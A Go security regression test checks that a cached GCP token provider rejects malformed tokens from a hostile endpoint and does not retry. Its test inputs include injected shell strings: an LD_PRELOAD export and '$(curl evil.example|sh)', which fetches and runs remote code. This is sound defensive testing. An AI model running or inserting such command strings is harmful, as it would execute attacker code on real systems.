package gcptoken

// Security regression tests (docs/security.md): each names the attack it
// stops. Run them all with `go test -run Security ./...`.

import (
	"context"
	"errors"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// TestSecurityCachedProviderRefusesHostileToken: a hostile or broken token
// endpoint answers 200 with a "token" carrying a newline and a shell
// command. Whatever wraps the source in the cache never hands it out, and
// does not ask again (the server would only send it again).
func TestSecurityCachedProviderRefusesHostileToken(t *testing.T) {
	t.Parallel()
	for _, value := range []string{
		"ya29.ok\nexport LD_PRELOAD=/tmp/x.so",
		"$(curl evil.example|sh)",
		"ya29.ok\x1b]0;owned\x07",
		"ya29 ok",
		strings.Repeat("a", MaxTokenLength+1),
	} {
		var calls atomic.Int64
		clock := newFakeClock()
		src := TokenProviderFunc(func(context.Context) (*Token, error) {
			calls.Add(1)
			return &Token{Value: value, Kind: AccessToken, Expiry: clock.Now().Add(time.Hour)}, nil
		})
		tok, err := NewCachedProvider(src, testOptions(clock)).Token(context.Background())
		if err == nil {
			t.Fatalf("Token() = %q; want an error for a malformed token", tok.Value)
		}
		if !errors.Is(err, ErrMalformedToken) {
			t.Errorf("errors.Is(%v, ErrMalformedToken) = false", err)
		}
		if !strings.Contains(err.Error(), "access token") {
			t.Errorf("error %q does not say which kind of token", err)
		}
		if n := calls.Load(); n != 1 {
			t.Errorf("source called %d times; want 1 (a malformed token is not retried)", n)
		}
	}
}
